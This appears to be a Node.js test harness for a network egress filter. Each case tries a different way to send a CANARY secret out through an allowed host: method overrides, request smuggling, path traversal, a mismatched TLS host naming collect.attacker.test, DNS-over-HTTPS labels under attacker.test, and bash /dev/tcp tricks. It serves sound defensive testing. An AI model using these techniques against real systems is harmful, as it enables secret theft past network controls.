// Leaves a secret at a host that is allowed, by what is not needed of it. Trusts whoever answers, as thieves do.
import { spawn } from 'node:child_process';
import { copyFileSync } from 'node:fs';
import { once } from 'node:events';
import { connect as dial } from 'node:net';
import { connect as dialTls } from 'node:tls';

const host = 'allowed.test';
const secret = process.env.CANARY;
const head = (method, path, of = host, length = 0) =>
  `${method} ${path} HTTP/1.1\r\nHost: ${of}\r\nContent-Length: ${length}\r\n\r\n`;

/** Says the parts one after another on one connection, each when the one before was answered, or after a while. */
const say = (socket, ready, ...parts) =>
  new Promise((resolve) => {
    const waiting = [...parts];
    const next = () => {
      const part = waiting.shift();
      if (part === undefined) return setTimeout(() => socket.destroy(), 300);
      socket.write(part);
      if (waiting.length > 0) setTimeout(next, 200);
      else setTimeout(() => socket.destroy(), 5000);
    };
    socket.on(ready, next);
    socket.on('data', (chunk) => console.log(chunk.toString('latin1').split('\r\n')[0]));
    socket.on('error', (error) => console.log(error.code));
    socket.on('close', resolve);
  });
const plain = (...parts) => say(dial(80, host), 'connect', ...parts);
const inTls = (...parts) =>
  say(dialTls({ host, port: 443, servername: host, rejectUnauthorized: false }), 'secureConnect', ...parts);

/** What a shell says by itself, under whatever name it is started; `from`: by a connection that another one made. */
const request = `printf 'GET /releases/%s HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n' "$CANARY" >&3; read -t 2 line <&3; echo "$line"`;
const shell = async (program, environment = {}, from = undefined) => {
  const opening = from === undefined ? `exec 3<>/dev/tcp/${host}/80; ` : '';
  const stdio = ['ignore', 'inherit', 'inherit', ...(from === undefined ? [] : [from])];
  const env = { ...process.env, ...environment };
  await once(spawn(program, ['-c', opening + request], { stdio, env }), 'close');
};

const ways = {
  'other-path': () => plain(head('GET', `/gists/new?text=${secret}`)),
  'other-method': () => plain(head('POST', '/releases/list', host, secret.length) + secret),
  'other-method-by-a-header': () =>
    plain(`GET /releases/${secret} HTTP/1.1\r\nHost: ${host}\r\nX-HTTP-Method-Override: PUT\r\n\r\n`),
  'second-request': () => plain(head('GET', '/releases/list') + head('GET', `/gists/new?text=${secret}`)),
  'path-read-in-two-ways': () => plain(head('GET', `/releases/..%2fgists/new/${secret}`)),
  'other-path-in-tls': () => inTls(head('GET', `/gists/new?text=${secret}`)),
  'other-method-in-tls': () => inTls(head('POST', '/releases/list', host, secret.length) + secret),
  'dns-over-https': () => {
    const labels = [secret, 'attacker', 'test'].map((label) => String.fromCharCode(label.length) + label).join('');
    const question = `\0\0\x01\0\0\x01\0\0\0\0\0\0${labels}\0\0\x10\0\x01`;
    return inTls(head('POST', '/dns-query', host, question.length) + question);
  },
  'another-name-in-tls': () => inTls(head('GET', `/releases/${secret}`, 'collect.attacker.test')),
  'no-request-in-tls': () => inTls(`\u0000\u0001${secret}\u0000`.repeat(4)),
  'more-than-it-may-send': () => plain(head('POST', '/', host, 60_000) + 'x'.repeat(30_000), 'x'.repeat(30_000)),
  'another-program': () => plain(head('GET', `/releases/${secret}`)),
  'copied-program': () => {
    copyFileSync('/usr/bin/bash', 'bash');
    return shell('./bash');
  },
  'preloaded-program': () => shell('/usr/bin/bash', { LD_PRELOAD: 'libm.so.6' }),
  'handed-to-the-program': async () => {
    const socket = dial(80, host);
    await once(socket, 'connect');
    await shell('/usr/bin/bash', {}, socket);
    socket.destroy();
  },
};
await ways[process.argv[2]]();
